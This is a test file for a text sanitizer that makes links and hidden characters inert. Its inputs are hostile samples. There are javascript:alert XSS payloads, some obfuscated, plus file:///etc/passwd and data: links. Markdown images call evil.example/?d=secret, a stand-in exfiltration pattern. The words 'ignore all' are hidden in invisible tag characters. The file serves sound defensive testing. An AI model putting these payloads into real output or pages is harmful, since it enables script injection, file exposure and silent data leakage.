import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inertLine, inertText, visibleText, webAddress } from '../src/quoting/inert-text.js';

describe('inertText', () => {
  test('SEC-13: links lead to http and https alone, and keep their words', () => {
    const cases: Readonly<Record<string, string>> = {
      'see [the page](https://example.org/a?b=c "title")': 'see [the page](https://example.org/a?b=c "title")',
      '[up](/path) and [here](#top) and [next](page.html)': '[up](/path) and [here](#top) and [next](page.html)',
      '[run](javascript:alert(1))': '[run]',
      '[run]( JaVaScRiPt:alert`1` )': '[run]',
      '[run](<javascript:alert(1)>)': '[run]',
      '[run](java&#115;cript:alert)': '[run]',
      '[run](javascript&colon;alert)': '[run]',
      '[run](vscode://open/x "go")': '[run]',
      '[file](file:///etc/passwd)': '[file]',
      '[mail](mailto:a@b.example?body=x)': '[mail]',
      '![x](https://evil.example/?d=secret)': '[x](https://evil.example/?d=secret)',
      'a![x](data:image/svg+xml;base64,AAAA)': 'a[x]',
      '[![x](https://a.example/i.png)](javascript:alert(1))': '[[x](https://a.example/i.png)]',
      '![x][ref]\n\n[ref]: https://evil.example/?d=1': '[x][ref]\n\n[ref] https://evil.example/?d=1',
      '[ref]: javascript:alert(1)': '[ref]',
      '<javascript:alert(1)> <https://example.org/>': 'javascript[:]alert(1) <https://example.org/>',
      '<img src="https://evil.example/?d=1" alt="x">': '<img src="" alt="x">',
      "<a href='javascript:alert(1)'>x</a>": '<a href="">x</a>',
      '<a href="https://example.org/">x</a>': '<a href="https://example.org/">x</a>',
      'paste javascript:alert(1) there': 'paste javascript[:]alert(1) there',
      'open file:///etc/passwd': 'open file[:]///etc/passwd',
      'data:text/html;base64,AAAA': 'data[:]text/html;base64,AAAA',
    };
    for (const [text, inert] of Object.entries(cases)) expect(inertText(text)).toBe(inert);
  });

  test('SEC-13: what is no link stays as it was written', () => {
    const texts = [
      'the data: 5 items, as in data:\n- one',
      'const data = { a: 1 };\nlet v = vec![1, 2];\nif (a < b && c > d) x["k"](y);',
      'handlers[name](event); map[0](a, b)',
      'postgres://me@localhost:5432/db, std::vector, 12:30, C:\\Users, key:value',
      '[1]: Smith: On Bees, 1990',
      '中文 и العربية, café, 👍',
    ];
    for (const text of texts) expect(inertText(text)).toBe(text);
  });

  test('SEC-13: no character gets through that is not seen or turns the direction of writing', () => {
    const hidden = [...Array(0x110000).keys()].filter((code) => {
      const character = String.fromCodePoint(code);
      return /\p{Default_Ignorable_Code_Point}|\p{Bidi_Control}|\p{Cc}/u.test(character) && !/[\n\t]/.test(character);
    });
    expect(hidden.length).toBeGreaterThan(4_000);
    const text = hidden.map((code) => `a${String.fromCodePoint(code)}b`).join('');
    expect(visibleText(text).replaceAll(/[ab\n]/g, '')).toBe('');
    const tags = [...'ignore all'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
    expect(inertText(`ja\u200bva\u00adscript:alert(1) \u202etxt.exe\u202c${tags}`)).toBe(
      'javascript[:]alert(1) txt.exe',
    );
    expect(inertText('a\r\nb\rc\u2028d\u0085e')).toBe('a\nb\nc\nd\ne');
    expect(inertText('half \ud800 pair').isWellFormed()).toBe(true);
  });

  const piece = fc.oneof(
    fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '!',
      '](',
      '![',
      'javascript:',
      'data:x/y,',
      'file:',
      ' ',
      '\n',
      '"',
      '&#58;',
      'https://a.example/',
    ),
    fc.string({ unit: 'binary', maxLength: 4 }),
  );
  const hostile = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''));

  test('SEC-13: whatever is stored, no target of a link has another scheme, and nothing is left to make inert', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const inert = inertText(text);
        for (const [, target = ''] of inert.matchAll(/\]\(\s*<?([a-z][a-z0-9+.-]*:[^\s)]+)/gi)) {
          expect(target).toMatch(/^https?:\/\//i);
        }
        expect(inert).not.toMatch(/\b(?:javascript|vbscript|file):\S/i);
        expect(inert).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u);
      }),
      { numRuns: 2_000 },
    );
  });

  test('SEC-13: long texts of one sign take no longer than their length asks for', () => {
    // A pattern that goes back over what it has read would take hours for any of these.
    const most = 300_000;
    for (const unit of [
      '[',
      '![',
      '](',
      '[](',
      '[]( ',
      '[](x "',
      "[](x '",
      '<a ',
      '<a href="',
      '<a href=',
      'data:',
      '[a]: ',
      '<x:',
      ' ',
      '(',
      '!['.repeat(3),
      '[x](a(',
    ]) {
      expect(inertText(unit.repeat(most / unit.length)).length).toBeGreaterThan(0);
    }
  });
});

test('SEC-13: a title is one line of bounded length', () => {
  expect(inertLine('  a\n\tb\u202e  c ', 10)).toBe('a b c');
  expect(inertLine('x'.repeat(50), 10)).toBe(`${'x'.repeat(9)}…`);
  expect(inertLine('👍'.repeat(9), 4).isWellFormed()).toBe(true);
});

test('SEC-13: an address is http or https, encoded, or none', () => {
  expect(webAddress('https://exa\u202emple.org/a b"><script>')).toMatch(/^(?:https:\/\/[!-~]+)?$/);
  expect(webAddress('http://example.org/ä?q=„x“')).toBe('http://example.org/%C3%A4?q=%E2%80%9Ex%E2%80%9C');
  for (const other of ['javascript:alert(1)', 'file:///etc', 'x', '', null]) expect(webAddress(other)).toBe('');
});
